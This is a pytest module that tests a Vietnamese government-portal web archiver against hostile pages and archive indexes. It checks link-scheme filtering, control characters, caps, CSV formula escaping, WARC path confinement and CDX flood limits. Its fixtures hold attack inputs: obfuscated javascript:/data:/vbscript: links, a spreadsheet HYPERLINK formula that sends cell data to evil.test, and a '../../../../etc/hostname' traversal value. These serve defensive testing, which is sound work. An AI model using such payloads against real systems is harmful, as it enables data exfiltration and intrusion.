"""What a hostile portal or web archive can send, and what leaves the archive, each tried over real HTTP
into a real archive (issue 25):

- only http(s) links leave extraction: `javascript:`, ` JaVaScRiPt:`, `java&#x09;script:`, `DATA:`, `vbscript:`
  attachment and image links are dropped and counted in the record's warnings;
- no C0 control character reaches a stored text field (U+0001 in a title broke every Atom feed);
- one page's images and attachments are capped;
- backfill bounds what an archive's index makes it ask and hold (a Common Crawl index claiming 20 million
  pages, a CDX server sending a new resume key forever or more rows than asked);
- `reextract` reads only regular files inside the archive's warc/, and only the bytes they hold;
- `export --bom` (CSV for spreadsheets) writes formula-leading cells as text; every other format is byte-faithful.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
from pathlib import Path

import pytest

from crawler.export import FORMULA_RULE, FORMULA_STARTS, STORED_RULE, manifest_path
from crawler.extract import MAX_ATTACHMENTS_PER_PAGE, MAX_IMAGES_PER_PAGE
from crawler.text import NOT_TEXT
from tests import hostile
from tests.conftest import rows, run_vnarchive

DOMAIN = "noidung.test"
CRAWL_SETTINGS = ["DOWNLOAD_DELAY=0", "AUTOTHROTTLE_ENABLED=false", "ROBOTSTXT_TIMEOUT=2", "RETRY_TIMES=0",
                  "EXTRACT_WORKERS=0"]
PUBLISHED = "20/11/2026 08:30"
PARAGRAPHS = [f"Đoạn {i}: công tác dân vận chính quyền được triển khai đồng bộ, sâu rộng ở cơ sở trong năm nay."
              for i in range(5)]
FORMULA_TITLE = '=HYPERLINK("http://evil.test/?d="&A2,"Bấm vào đây để xem kế hoạch dân vận")'
CONTROL_TITLE = "Tin\x01 tức có ký tự\x0b điều khiển trong tiêu đề bài viết"
NOT_TEXT_CHARACTER = re.compile(f"[{NOT_TEXT}]")
TEXT_COLUMNS = ("title", "lead", "body", "author", "source", "category", "images", "attachments", "warnings",
                "search_text")
# Links a compromised portal may put on an article page: each must be dropped, whatever its case,
# spaces, entities or control characters.
HOSTILE_DOCUMENTS = [
    ("javascript:alert(1)//ke-hoach.pdf", "Kế hoạch số 1"),
    (" JaVaScRiPt:alert(2)//bao-cao.pdf", "Báo cáo số 2"),
    ("java&#x09;script:alert(3)//quyet-dinh.pdf", "Quyết định số 3"),
    ("DATA:text/html,&lt;script&gt;alert(4)&lt;/script&gt;//to-trinh.pdf", "Tờ trình số 4"),
    ("vbscript:msgbox(5)//cong-van.docx", "Công văn số 5"),
    ("\x01javascript:alert(6)//thong-bao.pdf", "Thông báo số 6"),
]
HOSTILE_IMAGES = ["javascript:alert(7)", "  data:text/html,&lt;script&gt;alert(8)&lt;/script&gt;", "JAVA\tSCRIPT:alert(9)"]
FLOOD_LINKS = 5 * MAX_ATTACHMENTS_PER_PAGE
FLOOD_IMAGES = MAX_IMAGES_PER_PAGE + 50


def path_of(name: str) -> str:
    return f"/tin-tuc/{name}-12345.html"


def article_page(title: str, extra_html: str = "", *, author: str = "Nguyễn Văn An", lead: str = "") -> hostile.Behaviour:
    text = hostile.ArticleText.of(title, PUBLISHED, PARAGRAPHS, author, lead)
    return hostile.page(hostile._article_document(text, body_html=text.body_html() + extra_html))


def links_page() -> hostile.Behaviour:
    documents = "".join(f'<li><a href="{href}">{name}</a></li>' for href, name in HOSTILE_DOCUMENTS)
    images = "".join(f'<img src="{src}" alt="Ảnh {n}">' for n, src in enumerate(HOSTILE_IMAGES))
    return article_page(
        "Kế hoạch triển khai công tác dân vận có văn bản kèm theo",
        f'<p>Văn bản kèm theo:</p><ul>{documents}<li><a href="/files/ke-hoach-so-7.pdf">Kế hoạch số 7</a></li></ul>'
        f'<p>{images}<img src="/images/hoi-nghi.jpg" alt="Quang cảnh hội nghị"></p>')


def flood_page() -> hostile.Behaviour:
    documents = "".join(f'<li><a href="/files/tai-lieu-{n}.pdf">Tài liệu số {n}</a></li>' for n in range(FLOOD_LINKS))
    images = "".join(f'<img src="/images/anh-{n}.jpg">' for n in range(FLOOD_IMAGES))
    return article_page("Trang có hàng nghìn tài liệu và hình ảnh đính kèm", f"<ul>{documents}</ul><p>{images}</p>")


ARTICLES = {
    "lien-ket": links_page(),
    "ky-tu": article_page(CONTROL_TITLE, author="Nguyễn\x02 Văn Bình"),
    "nhieu-tai-lieu": flood_page(),
    "cong-thuc": article_page(FORMULA_TITLE, lead="+84 1900 1234 là đường dây nóng tiếp nhận phản ánh của người dân"),
    "binh-thuong-1": article_page("Hội nghị tổng kết công tác dân vận chính quyền năm 2026"),
    "binh-thuong-2": article_page("Tập huấn nghiệp vụ tiếp công dân cho cán bộ cấp xã năm 2026"),
}


@pytest.fixture(scope="module")
def content_crawl(tmp_path_factory):
    """One `vnarchive crawl` of a portal serving the pages above."""
    folder = tmp_path_factory.mktemp("content")
    routes = {"/robots.txt": hostile.not_found(),
              "/tin-tuc": hostile.listing([(path_of(name), f"Bài {name} của cổng thông tin thử nghiệm") for name in ARTICLES]),
              **{path_of(name): behaviour for name, behaviour in ARTICLES.items()}}
    with hostile.HostileServer(routes) as server:
        portals_file = hostile.write_portals_file(folder / "portals.yml", [hostile.portal_entry("noidung", DOMAIN, ["/tin-tuc"])])
        db = folder / "archive.db"
        result = run_vnarchive("crawl", "--db", str(db), "--portals-file", str(portals_file),
                               "--hostmap", f"{DOMAIN}={server.base_url}",
                               *[arg for setting in CRAWL_SETTINGS for arg in ("--set", setting)], timeout=300)
        assert server.errors == []
    assert result.returncode == 0, result.stdout + result.stderr[-3000:]
    return db, {row["url"].rsplit("/", 1)[-1].removesuffix("-12345.html"): row for row in rows(db)}


# --- extraction: links ---------------------------------------------------------------------------


def test_only_http_links_leave_extraction_and_the_dropped_ones_are_counted(content_crawl):
    _, stored = content_crawl
    row = stored["lien-ket"]
    assert json.loads(row["attachments"]) == [{"url": f"https://{DOMAIN}/files/ke-hoach-so-7.pdf", "name": "Kế hoạch số 7"}]
    assert json.loads(row["images"]) == [{"src": f"https://{DOMAIN}/images/hoi-nghi.jpg", "caption": "Quang cảnh hội nghị"}]
    assert "9 image or document links dropped: not http(s) (data 2, javascript 6, vbscript 1)" in json.loads(row["warnings"])
    for name, article in stored.items():
        for link in [*json.loads(article["attachments"]), *json.loads(article["images"])]:
            assert re.match(r"https?://", link.get("url") or link["src"]), (name, link)


# --- extraction: control characters ------------------------------------------------------------------


def test_no_control_character_reaches_a_stored_text_field(content_crawl):
    db, stored = content_crawl
    row = stored["ky-tu"]
    assert row["title"] == "Tin tức có ký tự điều khiển trong tiêu đề bài viết"
    assert row["author"] == "Nguyễn Văn Bình"
    for article in rows(db):
        for column in TEXT_COLUMNS:
            assert not NOT_TEXT_CHARACTER.search(article[column] or ""), (article["url"], column)
        assert "\n\n" in article["body"]  # the body keeps its paragraphs


def test_the_archive_stores_no_control_character_whatever_the_record_says(tmp_path):
    """The last line: records that did not come through extraction (ingest, backfill) pass article_row too."""
    from crawler.items import ArticleRecord
    from crawler.store import Archive

    archive = Archive(tmp_path / "archive.db")
    record = ArticleRecord(url="https://noidung.test/a", url_key="noidung.test/a", portal=None, title="Tiêu\x01 đề\ud800",
                           body="Đoạn\x00 một.\n\nĐoạn\x1b hai.", author="A\x7f", content_hash="x",
                           captured_at="2026-11-23T10:00:00+07:00",
                           images=[{"src": "https://noidung.test/a.jpg", "caption": "Ảnh\x02"}])
    assert archive.save_articles([record], {}) == {"new": 1}
    archive.close()
    [row] = rows(tmp_path / "archive.db")
    assert (row["title"], row["body"], row["author"]) == ("Tiêu đề", "Đoạn một.\n\nĐoạn hai.", "A\x7f")
    assert json.loads(row["images"])[0]["caption"] == "Ảnh"


# --- extraction: caps ------------------------------------------------------------------------------


def test_one_pages_images_and_attachments_are_capped_with_a_warning(content_crawl):
    _, stored = content_crawl
    row = stored["nhieu-tai-lieu"]
    assert len(json.loads(row["attachments"])) == MAX_ATTACHMENTS_PER_PAGE
    assert len(json.loads(row["images"])) == MAX_IMAGES_PER_PAGE
    warnings = json.loads(row["warnings"])
    assert (f"{FLOOD_LINKS - MAX_ATTACHMENTS_PER_PAGE} document links past the first {MAX_ATTACHMENTS_PER_PAGE} "
            "attachments not read (MAX_ATTACHMENTS_PER_PAGE)") in warnings
    assert f"{FLOOD_IMAGES - MAX_IMAGES_PER_PAGE} images past the first {MAX_IMAGES_PER_PAGE} dropped (MAX_IMAGES_PER_PAGE)" in warnings


# --- export for spreadsheets -----------------------------------------------------------------------


def export(db: Path, out: Path, *args: str) -> dict:
    result = run_vnarchive("export", "--db", str(db), "-o", str(out), *args)
    assert result.returncode == 0, result.stderr
    return json.loads(manifest_path(out).read_text(encoding="utf-8"))


def test_csv_for_spreadsheets_writes_formula_cells_as_text_and_says_so(content_crawl, tmp_path):
    db, stored = content_crawl
    out = tmp_path / "excel.csv"
    manifest = export(db, out, "--bom")
    exported = {row["url"]: row for row in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline=""))}
    formula = exported[stored["cong-thuc"]["url"]]
    assert formula["title"] == "'" + FORMULA_TITLE and formula["lead"].startswith("'+84 1900")
    for row in exported.values():
        assert not [value for value in row.values() if value.startswith(FORMULA_STARTS)], row["url"]
    assert manifest["file"]["formula_cells"] == {"rule": FORMULA_RULE, "cells_prefixed": 2}


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl", "parquet"])
def test_every_other_format_keeps_a_formula_title_byte_for_byte(content_crawl, tmp_path, fmt):
    db, stored = content_crawl
    out = tmp_path / f"all.{fmt}"
    manifest = export(db, out)
    if fmt == "csv":
        exported = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
        assert manifest["file"]["formula_cells"] == {"rule": STORED_RULE}
    elif fmt == "json":
        exported = json.loads(out.read_text(encoding="utf-8"))
    elif fmt == "jsonl":
        exported = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    else:
        import pyarrow.parquet as pq
        exported = pq.read_table(out).to_pylist()
    [formula] = [row for row in exported if row["url"] == stored["cong-thuc"]["url"]]
    assert formula["title"] == stored["cong-thuc"]["title"] == FORMULA_TITLE
    assert formula["lead"] == stored["cong-thuc"]["lead"]


# --- reextract: only the archive's own WARC files ----------------------------------------------------


def test_reextract_reads_only_regular_files_inside_warc_and_only_what_they_hold(content_crawl, tmp_path):
    source_db, _ = content_crawl
    db = tmp_path / "archive.db"
    shutil.copy(source_db, db)
    shutil.copytree(source_db.parent / "warc", tmp_path / "warc")
    [warc_file] = [path for path in (tmp_path / "warc").iterdir()]
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    outside_copy = elsewhere / warc_file.name  # a whole, valid WARC: the old code read it happily
    shutil.copy(warc_file, outside_copy)
    (tmp_path / "warc" / "link.warc.gz").symlink_to(outside_copy)
    keys = [row["url_key"] for row in rows(db, "SELECT url_key FROM articles ORDER BY url_key")]
    tampered = {
        keys[0]: {"warc_file": "../../../../etc/hostname"},
        keys[1]: {"warc_file": str(outside_copy)},
        keys[2]: {"warc_file": "link.warc.gz"},
        keys[3]: {"warc_length": warc_file.stat().st_size + 4096},
        keys[4]: {"warc_offset": -10},
    }
    connection = sqlite3.connect(db)
    with connection:
        for key, values in tampered.items():
            for column, value in values.items():
                connection.execute(f"UPDATE articles SET {column} = ? WHERE url_key = ?", [value, key])
    connection.close()
    result = run_vnarchive("reextract", "--db", str(db))
    assert result.returncode == 4, result.stdout + result.stderr
    assert f"{len(keys)} articles: 1 unchanged, 0 changed, 5 not re-read" in result.stdout
    assert "not re-read: not a byte range 1, outside the WARC folder 3, past the end of its file 1" in result.stdout


# --- backfill: an archive's index is trusted for its rows, not for its sizes --------------------------

BACKFILL_PORTAL = "thuathienhue"  # a defunct portal of the registry, one domain (www. folded)
CDX_FIELDS = ["urlkey", "timestamp", "original", "mimetype", "statuscode", "digest", "length"]


def backfill(server: hostile.HostileServer, tmp_path: Path, source: str, *settings: str):
    db = tmp_path / "archive.db"
    base = "--wayback-url" if source == "wayback" else "--commoncrawl-index-url"
    result = run_vnarchive("backfill", "--db", str(db), "--portal", BACKFILL_PORTAL, "--source", source,
                           base, server.base_url, "--set", "BACKFILL_DELAY=0", "--set", "EXTRACT_WORKERS=0",
                           *[arg for setting in settings for arg in ("--set", setting)], timeout=120)
    assert server.errors == []
    # It ends as any run does (`failed` when the index listed nothing to keep), within the timeout.
    assert "Spider closed (finished)" in result.stderr, result.stdout + result.stderr[-3000:]
    [run] = rows(db, "SELECT * FROM portal_runs")
    return db, json.loads(run["refused_by_kind"] or "{}"), result


def cdx_pages(rows_per_page: int, last_page: int, same_key: bool = False) -> hostile.Behaviour:
    """A CDX server whose every page holds `rows_per_page` captures (whatever `limit` asked) and a new
    resume key, up to `last_page`; `same_key`: the key it was asked with, again."""
    def serve(request: hostile.SeenRequest, connection: hostile.Connection) -> None:
        asked = request.param("resumeKey") or ""
        page = int(asked.removeprefix("page-") or 0)
        table = [CDX_FIELDS] + [[f"vn,gov,thuathienhue)/?tc={page}-{n}", "20190312041500",
                                 f"https://thuathienhue.gov.vn/?gd=1&cn=129&tc={page * 100_000 + n}",
                                 "text/html", "301", f"DIGEST{page}X{n}", "900"] for n in range(rows_per_page)]
        if page < last_page:
            table += [[], [asked or "page-1"] if same_key else [f"page-{page + 1}"]]
        connection.respond(200, json.dumps(table), "application/json")
    return serve


def test_a_cdx_server_sending_a_new_resume_key_forever_is_paged_up_to_the_limit(tmp_path):
    with hostile.HostileServer({"/cdx/search/cdx": cdx_pages(0, last_page=100)}) as server:
        _, refused, result = backfill(server, tmp_path, "wayback", "BACKFILL_MAX_INDEX_PAGES=5")
    assert len(server.requests_to("/cdx/search/cdx")) == 5
    assert refused == {"listing_limit": 1} and "BACKFILL_MAX_INDEX_PAGES" in result.stderr


def test_a_cdx_server_answering_with_the_resume_key_it_was_given_is_not_asked_again(tmp_path):
    with hostile.HostileServer({"/cdx/search/cdx": cdx_pages(0, last_page=100, same_key=True)}) as server:
        _, refused, result = backfill(server, tmp_path, "wayback")
    assert [request.param("resumeKey") for request in server.requests_to("/cdx/search/cdx")] == [None, "page-1"]
    assert refused == {"listing_limit": 1} and "the resume key it was asked with" in result.stderr


def test_index_pages_with_more_rows_than_asked_fill_the_run_up_to_its_capture_limit_and_no_further(tmp_path):
    with hostile.HostileServer({"/cdx/search/cdx": cdx_pages(500, last_page=30)}) as server:
        db, refused, _ = backfill(server, tmp_path, "wayback", "BACKFILL_MAX_INDEX_ROWS=100",
                                  "BACKFILL_MAX_CAPTURES=250")
    # Three pages of 500 rows: 100 read from each (400 refused), the third's last 50 past the run's 250.
    assert len(server.requests_to("/cdx/search/cdx")) == 3
    assert refused == {"links_capped": 3 * 400 + 50, "redirect": 250}
    assert rows(db, "SELECT count(*) AS n, min(outcome) AS o, max(outcome) AS p FROM backfill_captures") == [
        {"n": 250, "o": "redirect", "p": "redirect"}]


def collections(count: int) -> list[dict]:
    return [{"id": f"CC-MAIN-2019-{n:02d}", "name": f"March 2019 crawl {n}", "from": "2019-03-01T00:00:00",
             "to": "2019-03-31T23:59:59"} for n in range(count)]


def cc_index(pages_claimed: int) -> hostile.Behaviour:
    """A Common Crawl index claiming `pages_claimed` pages of every domain, each page empty."""
    def serve(request: hostile.SeenRequest, connection: hostile.Connection) -> None:
        if request.param("showNumPages"):
            connection.respond(200, json.dumps({"pages": pages_claimed, "pageSize": 5, "blocks": pages_claimed * 5}),
                               "application/json")
        else:
            connection.respond(200, "", "text/x-ndjson")
    return serve


def test_a_common_crawl_index_claiming_20_million_pages_is_read_lazily_up_to_the_limits(tmp_path):
    with hostile.HostileServer({"/collinfo.json": hostile.page(json.dumps(collections(40)), content_type="application/json"),
                                "/CC-MAIN-*": cc_index(20_000_000)}) as server:
        _, refused, result = backfill(server, tmp_path, "commoncrawl", "BACKFILL_MAX_INDEX_PAGES=5",
                                      "BACKFILL_MAX_COLLECTIONS=2")
    asked = [request for request in server.requests if request.path.startswith("/CC-MAIN-")]
    assert sorted({request.path for request in asked}) == ["/CC-MAIN-2019-00-index", "/CC-MAIN-2019-01-index"]
    assert sorted(request.param("page") or "count" for request in asked) == ["0", "0", "1", "1", "2", "2", "3", "3",
                                                                            "4", "4", "count", "count"]
    assert refused == {"listing_limit": 38 + 2 * (20_000_000 - 5)}
    assert "the index claims 20000000 pages" in result.stderr
